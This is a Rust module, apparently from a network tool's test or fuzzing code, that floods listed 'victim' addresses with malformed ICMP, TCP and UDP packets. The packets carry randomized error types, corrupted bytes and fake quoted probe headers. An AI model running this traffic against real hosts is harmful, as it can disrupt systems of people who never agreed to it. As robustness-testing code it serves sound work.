//! Packets that no decent host sends.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};
use std::time::Duration;

use socket2::{Domain, Protocol, Socket, Type};

use crate::linux::Failure;

/// A thousand a second to each of these addresses, until killed.
pub(super) fn attack(victims: &[IpAddr]) -> Result<(), Failure> {
    let arms = victims.iter().map(|victim| Arms::new(*victim));
    let arms = arms.collect::<std::io::Result<Vec<Arms>>>()?;
    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
    let mut random = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    loop {
        for arms in &arms {
            for _ in 0..20 {
                arms.strike(&mut random);
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Sockets towards one victim.
struct Arms {
    victim: IpAddr,
    icmp: Socket,
    tcp: Socket,
    udp: UdpSocket,
}

impl Arms {
    fn new(victim: IpAddr) -> std::io::Result<Arms> {
        let raw = |protocol| -> std::io::Result<Socket> {
            let address = SocketAddr::new(victim, 0);
            let socket = Socket::new(Domain::for_address(address), Type::RAW, Some(protocol))?;
            socket.connect(&address.into())?;
            Ok(socket)
        };
        let (icmp, any): (_, IpAddr) = match victim {
            IpAddr::V4(_) => (Protocol::ICMPV4, Ipv4Addr::UNSPECIFIED.into()),
            IpAddr::V6(_) => (Protocol::ICMPV6, Ipv6Addr::UNSPECIFIED.into()),
        };
        Ok(Arms {
            victim,
            icmp: raw(icmp)?,
            tcp: raw(Protocol::TCP)?,
            udp: UdpSocket::bind((any, 0))?,
        })
    }

    fn strike(&self, random: &mut impl FnMut() -> u64) {
        let packet = match self.victim {
            IpAddr::V4(_) => finish(message(random, &KINDS_V4, &quote_v4), random, true),
            // The kernel computes the checksum of ICMPv6.
            IpAddr::V6(_) => finish(message(random, &KINDS_V6, &quote_v6), random, false),
        };
        // The victim's kernel may answer with an error, which the next call reports.
        let _ = match random() % 4 {
            0 => self.tcp.send(&packet),
            1 => {
                let port = 32768 + (random() % 28232) as u16;
                self.udp.send_to(&packet, (self.victim, port))
            }
            _ => self.icmp.send(&packet),
        };
    }
}

/// Type and code of what answers probes, and of what does not. RFC 792, RFC 4443
const KINDS_V4: [[u8; 2]; 7] = [[11, 0], [3, 3], [3, 13], [0, 0], [5, 1], [12, 0], [11, 1]];
const KINDS_V6: [[u8; 2]; 7] = [[3, 0], [1, 4], [1, 1], [129, 0], [2, 0], [4, 0], [3, 1]];

type Random<'a> = &'a mut dyn FnMut() -> u64;

/// The header of a probe: version and length, protocol, addresses.
fn quote_v4(random: Random<'_>) -> Vec<u8> {
    let protocol = [1, 6, 17, 0][(random() % 4) as usize];
    let mut header = vec![0x45, 0, 0, 36, random() as u8, random() as u8, 0x40, 0, 1];
    header.extend([protocol, 0, 0, 10, 0, 1, 1, 10, 0, 6, 2]);
    header
}

fn quote_v6(random: Random<'_>) -> Vec<u8> {
    let protocol = [58, 6, 17, 0][(random() % 4) as usize];
    let mut header = vec![0x60, 0, 0, 0, 0, 16, protocol, 1];
    header.extend((0..32).map(|_| random() as u8));
    header
}

/// An ICMP message that may quote something like a probe.
fn message(random: Random<'_>, kinds: &[[u8; 2]; 7], quote: &dyn Fn(Random<'_>) -> Vec<u8>) -> Vec<u8> {
    let random_kind = [random() as u8, 0];
    let [kind, code] = *kinds.get((random() % 8) as usize).unwrap_or(&random_kind);
    let mut packet = vec![kind, code, 0, 0, 0, 0, 0, 0];
    packet.extend(quote(random));
    packet.extend((0..random() % 40).map(|_| random() as u8));
    packet
}

/// Cuts it off anywhere, changes bytes, and makes the checksum right, mostly.
fn finish(mut packet: Vec<u8>, random: Random<'_>, checksum: bool) -> Vec<u8> {
    if random().is_multiple_of(3) {
        let at = random() as usize % packet.len();
        packet[at] = random() as u8;
    }
    packet.truncate(4.max(random() as usize % (packet.len() + 20)));
    if checksum && !random().is_multiple_of(4) {
        packet[2] = 0;
        packet[3] = 0;
        let mut sum: u32 = packet
            .chunks(2)
            .map(|pair| u32::from(pair[0]) << 8 | u32::from(pair.get(1).copied().unwrap_or(0)))
            .sum();
        while sum > 0xffff {
            sum = (sum >> 16) + (sum & 0xffff);
        }
        let sum = !(sum as u16);
        packet[2..4].copy_from_slice(&sum.to_be_bytes());
    }
    packet
}
